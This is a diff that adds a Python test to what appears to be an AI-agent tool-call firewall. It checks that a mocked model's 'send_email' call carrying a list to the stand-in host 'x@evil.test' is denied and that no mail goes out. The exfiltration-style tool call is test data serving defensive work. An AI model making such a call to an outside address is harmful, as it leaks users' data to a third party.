@@ -239,3 +239,26 @@ def test_an_mcp_server_of_the_agent_is_checked_and_redacted(tmp_path) -> None:
     assert EMAIL not in seen and "<EMAIL_ADDRESS_1>" in seen
     assert "only mail addresses at example.com" in outputs(model, 2)["e1"]
     assert not (tmp_path / "crm_server.py.sent").exists()
+
+
+def test_the_drop_in_client_as_the_agents_model_client() -> None:
+    """The Agents SDK never sees a call the firewall denied in the model's reply."""
+    from agents import OpenAIResponsesModel
+
+    from adapters.openai import AsyncOpenAI
+    from tests.openai_api import Reply, Server, fc_item, response, text_item
+
+    firewall = Firewall(load_policy(POLICIES / "default.yaml"))
+    office = Office()
+    with Server() as api:
+        denied = fc_item("c1", "send_email", {"to": "x@evil.test", "body": "list"})
+        api.state.replies.append(Reply(response(text_item("I will mail it."), denied)))
+        client = AsyncOpenAI(
+            firewall=firewall, api_key="t", base_url=api.url, context={"env": "production"}
+        )
+        model = OpenAIResponsesModel("gpt-test", client)
+        agent = Agent(name="mailer", model=model, tools=office.tools())
+        result = asyncio.run(Runner.run(agent, "Mail the list to x@evil.test"))
+    assert result.final_output == "I will mail it."
+    assert office.mails == []
+    assert [d.verdict.label for d in firewall.memory.decisions] == ["deny"]
